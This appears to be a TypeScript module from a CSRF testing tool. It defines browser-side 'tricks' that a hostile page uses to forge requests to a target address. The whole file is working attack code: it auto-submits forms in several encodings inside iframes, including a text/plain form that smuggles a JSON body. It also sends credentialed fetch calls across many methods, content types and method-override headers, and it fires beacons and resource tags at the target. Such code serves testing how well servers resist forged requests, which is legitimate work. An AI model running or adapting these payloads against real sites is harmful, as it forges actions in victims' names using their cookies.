/** What a hostile page is told to ask for; it runs in the browser. */
export interface Order {
  readonly address: string;
  readonly method: string;
  readonly fields: Readonly<Record<string, unknown>>;
  readonly isJson: boolean;
}

/** How many requests a page sends for one order: a hostile page counts them. */
export type Trick = (order: Order) => Promise<number>;

/** Forms of every encoding into frames, plain, and in a frame without an origin of its own. */
export const forms: Trick = async ({ address, fields }) => {
  const query = new URLSearchParams(Object.entries(fields).map(([name, value]) => [name, String(value)]));
  const inputs = [...query]
    .map(([name, value]) => `<input name='${name}' value='${value.replaceAll("'", '&#39;')}'>`)
    .join('');
  const json = JSON.stringify(fields);
  const smuggled = `<input name='${json.slice(0, -1)},"x":"' value='"}'>`;
  const writeForm = (type: string, body: string) =>
    `<form method="post" action="${address}" enctype="${type}">${body}</form><script>document.forms[0].submit()</script>`;
  const pages = [
    writeForm('application/x-www-form-urlencoded', inputs),
    writeForm('multipart/form-data', inputs),
    writeForm('text/plain', smuggled),
    `<form method="get" action="${address}">${inputs}</form><script>document.forms[0].submit()</script>`,
    `<meta http-equiv="refresh" content="0;url=${address}?${query.toString()}">`,
  ];
  const frames = pages.flatMap((page) =>
    [null, 'allow-scripts allow-forms'].map((sandbox) => {
      const frame = document.createElement('iframe');
      if (sandbox !== null) frame.setAttribute('sandbox', sandbox);
      frame.srcdoc = page;
      return frame;
    }),
  );
  // Whether a form was answered shows only in a frame that may be looked into, and where it was not refused.
  await Promise.all(
    frames.map(
      (frame) =>
        new Promise<void>((done) => {
          frame.onload = () => frame.hasAttribute('sandbox') || frame.contentDocument || done();
          document.body.append(frame);
          setTimeout(done, 700);
        }),
    ),
  );
  for (const frame of frames) frame.remove();
  return frames.length;
};

/** Scripts that ask with the victim's cookies, by every method and media type. */
export const scripts: Trick = async ({ address, method, fields }) => {
  const json = JSON.stringify(fields);
  const entries = Object.entries(fields).map(([name, value]): [string, string] => [name, String(value)]);
  const data = new FormData();
  for (const [name, value] of entries) data.set(name, value);
  const bodies: [string | undefined, BodyInit][] = [
    [undefined, new URLSearchParams(entries)],
    [undefined, data],
    [undefined, json],
    [undefined, new Blob([json])],
    ['text/plain', json],
    ['text/plain; application/json', json],
    ['application/json', json],
    ['application/xml', json],
    ['application/x-www-form-urlencoded', json],
  ];
  const credentials = 'include';
  const sends: Promise<unknown>[] = [];
  for (const mode of ['no-cors', 'cors'] as const)
    for (const verb of new Set(['POST', 'PUT', 'PATCH', 'DELETE', method]))
      for (const [type, body] of bodies) {
        const headers = new Headers(type ? { 'content-type': type } : {});
        try {
          sends.push(fetch(address, { method: verb, mode, credentials, headers, body }));
        } catch {
          // The browser does not even try.
        }
      }
  const override = { 'x-http-method-override': method, 'content-type': 'text/plain' };
  sends.push(
    fetch(`${address}?_method=${method}`, { method: 'POST', mode: 'no-cors', credentials, body: json }),
  );
  sends.push(fetch(address, { method: 'POST', credentials, headers: override, body: json }));
  await Promise.allSettled(sends);
  for (const body of [json, new URLSearchParams(entries), data, new Blob([json], { type: 'text/plain' })])
    navigator.sendBeacon(address, body);
  return sends.length + 4;
};

/** Pictures, scripts, frames and style sheets at the address, with what a form would send in its query. */
export const reads: Trick = async ({ address, method, fields }) => {
  const query = new URLSearchParams([
    ...Object.entries(fields).map(([name, value]): [string, string] => [name, String(value)]),
    ['_method', method],
  ]).toString();
  const tags = ['img', 'script', 'iframe', 'link', 'video', 'object', 'embed'] as const;
  const elements = tags.flatMap((tag) =>
    [address, `${address}?${query}`].map((at) => {
      const element = document.createElement(tag);
      element.setAttribute(tag === 'link' ? 'href' : tag === 'object' ? 'data' : 'src', at);
      if (tag === 'link') element.setAttribute('rel', 'stylesheet');
      return element;
    }),
  );
  await Promise.all(
    elements.map(
      (element) =>
        new Promise<void>((done) => {
          element.onload = () => done();
          element.onerror = () => done();
          document.body.append(element);
          setTimeout(done, 400);
        }),
    ),
  );
  for (const element of elements) element.remove();
  return elements.length;
};

export const tricks = { forms, scripts, reads };
